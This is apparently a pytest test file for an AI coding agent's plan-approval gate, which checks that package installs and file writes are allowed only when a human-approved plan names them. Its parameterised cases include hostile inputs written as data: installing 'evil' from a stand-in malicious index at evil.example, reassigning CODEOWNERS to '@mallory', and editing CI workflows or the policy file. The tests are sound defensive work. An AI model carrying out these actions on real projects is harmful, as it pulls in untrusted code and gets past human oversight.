"""A plan asks once for what it needs: bounded, for this run, and every use is listed.

What it does not name is asked about call by call, or refused, as without it.
"""

from __future__ import annotations

import json

import pytest

from agents.policy import POLICY_PATH
from agents.tools.gate.grant import PlanGrant

FILES = {
    "lib.py": "x = 1\n",
    "docs/CODEOWNERS": "* @mara\n",
    "migrations/1.sql": "select 1;\n",
    "requirements.txt": "requests\n",
    POLICY_PATH: "quality: []\nsetup: {run: []}\nprotected_paths: [migrations/, docs/CODEOWNERS]\n",
}
YES = {"state": "approved", "decided_by": "mara"}
NO = {"state": "denied", "decided_by": "mara", "reason": "no"}
NEEDS = ("pip:attrs", "npm:left-pad", "migrations/**")
INSTALL = "pip install attrs"


@pytest.fixture
def planned(make, acts, talk):
    """Make a world whose plan needs something, and whose engineer makes these calls."""

    def world(*calls, needs=NEEDS, words=(YES,), policy=FILES[POLICY_PATH], **more):
        step = {"title": "Mend it", "brief": "In lib.py, where it is broken."}
        plan = [acts.use("submit_plan", steps=[step], needs=list(needs))]
        made = [*([call] for call in calls), acts.change(), acts.step()]
        answers = [acts.triage(), plan, *made, acts.docs(), acts.verdict(), acts.text()]
        approvals = talk.Approvals(list(words))
        return make(answers, files=FILES | {POLICY_PATH: policy}, approvals=approvals, **more)

    return world


def rulings(world):
    said = world.journal.sessions["implement/1"]
    return [r for turn, _ in said if turn.kind == "results" for r in turn.rulings.values()]


def results(world):
    said = world.journal.sessions["implement/1"]
    blocks = [b for turn, text in said if turn.kind == "results" for b in json.loads(text)]
    return [block["content"] for block in blocks]


async def test_one_yes_lets_it_install_and_change_what_the_plan_names(planned, acts, request_):
    use = acts.use
    world = planned(
        use("bash", command=INSTALL),
        use("write", path="migrations/2.sql", content="select 2;\n"),
    )
    outcome = await world.resolve(request_)

    [asking] = world.approvals.askings
    assert (asking.tool, asking.rule) == ("grant", "grant/plan")
    assert asking.arguments == {
        "install": ["pip:attrs", "npm:left-pad"],
        "change": ["migrations/**"],
        "plan": ["Mend it: In lib.py, where it is broken."],
    }
    assert [each.rule for each in rulings(world)][:2] == ["grant/plan", "grant/plan"]
    tree = world.source.opened[-1]
    assert "pip install --only-binary :all: attrs" in tree.installs[-1]
    permitted = [each for tree in world.source.opened for each in tree.permitted]
    assert permitted == [{"migrations/2.sql": "select 2;\n"}]
    body = outcome.pull_request.body
    assert "### What was granted with the plan" in body
    for line in ("`pip:attrs`: used", "`npm:left-pad`: not used", "`migrations/**`: used"):
        assert f"- {line}" in body


@pytest.mark.parametrize(
    ("call", "rule"),
    [
        ({"command": "pip install evil"}, "dependency/new"),
        ({"command": "pip install attrs evil"}, "dependency/new"),
        ({"command": "pip install --index-url https://evil.example attrs"}, "dependency/new"),
        ({"command": "npm install attrs"}, "dependency/new"),
        ({"path": "docs/CODEOWNERS", "content": "* @mallory\n"}, "path/protected"),
        ({"path": ".github/workflows/ci.yml", "content": "on: push\n"}, "path/never"),
        ({"path": POLICY_PATH, "content": "quality: []\n"}, "path/never"),
    ],
)
async def test_what_it_does_not_name_is_as_without_it(planned, acts, request_, call, rule):
    tool = "bash" if "command" in call else "write"
    world = planned(
        acts.use(tool, **call), needs=("pip:attrs", "*.sql", ".github/**"), words=[YES, NO]
    )
    await world.resolve(request_)

    assert rulings(world)[0].rule == rule
    assert rulings(world)[0].decision == ("deny" if rule == "path/never" else "ask")
    assert world.source.opened[-1].installs == []


@pytest.mark.parametrize("words", [(NO, NO), ({"state": "void", "reason": "it moved"}, NO)])
async def test_without_a_yes_each_call_is_asked_about(planned, acts, request_, words):
    world = planned(acts.use("bash", command=INSTALL), words=words)
    outcome = await world.resolve(request_)

    assert [each.rule for each in world.approvals.askings] == ["grant/plan", "dependency/new"]
    assert "denied this" in results(world)[0]
    assert "granted with the plan" not in outcome.pull_request.body


def test_a_run_that_takes_up_the_work_has_to_ask_for_itself(planned, acts, request_):
    world = planned(acts.use("bash", command=INSTALL), words=[YES, NO])
    context = world.run(request_).context
    context.update_state(grant=PlanGrant(run="0005-earlier", packages=("pip:attrs",)))
    assert context.grant is None
    context.update_state(grant=PlanGrant(run=context.id, packages=("pip:attrs",)))
    assert context.grant is not None


async def test_what_needs_no_yes_is_not_asked_for(planned, request_):
    world = planned(needs=("pip:requests",), words=[])
    await world.resolve(request_)
    assert world.approvals.askings == []

    refusing = f"{FILES[POLICY_PATH]}approvals: {{dependencies: refuse}}\n"
    world = planned(needs=("pip:attrs",), words=[], policy=refusing)
    await world.resolve(request_)
    assert world.approvals.askings == []


@pytest.mark.parametrize(
    "need",
    ["**", "*", "/", "pip:", "pip:attrs==1", "npm:../x", "pip:a b", "!migrations", "x" * 201],
)
async def test_a_need_that_is_not_bounded_is_sent_back(planned, acts, request_, need):
    world = planned(needs=(need,), words=[])
    world.model.answers.insert(
        2,
        [acts.use("submit_plan", steps=[{"title": "Mend it", "brief": "In lib.py, where it is."}])],
    )
    await world.resolve(request_)

    assert world.approvals.askings == []
    told = json.loads(world.model.asked[2]["messages"])[-1]["content"][0]
    assert told["is_error"]
    assert "needs" in told["content"]
